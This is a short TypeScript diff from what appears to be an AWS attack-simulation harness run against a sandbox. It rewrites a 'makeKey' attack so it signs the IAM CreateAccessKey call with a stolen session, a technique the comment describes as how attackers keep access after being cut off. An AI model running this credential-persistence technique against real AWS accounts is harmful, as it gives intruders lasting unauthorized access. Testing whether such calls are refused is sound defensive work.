@@ -50,12 +50,12 @@ export const whoAmI = (keys: Keys): Attack => ({
 });
 
 /** `aws iam create-access-key` for a user, with the keys of somebody who may: how attackers stay after they were cut off. */
-export const makeKey = (userName: string, keys: Keys): Attack => ({
-  call: `aws iam create-access-key --user-name ${userName}   (key ${keys.accessKeyId})`,
+export const makeKey = (userName: string, session: string): Attack => ({
+  call: `aws iam create-access-key --user-name ${userName}   (session ${session})`,
   async attempt(sandbox) {
     try {
       const command = new CreateAccessKeyCommand({ UserName: userName });
-      const { AccessKey } = await new IAMClient(client(sandbox, keys)).send(command);
+      const { AccessKey } = await new IAMClient(client(sandbox, stolen(sandbox, session))).send(command);
       return { worked: true, answer: `AccessKeyId ${AccessKey?.AccessKeyId ?? ''}` };
     } catch (thrown) {
       return refused(thrown);
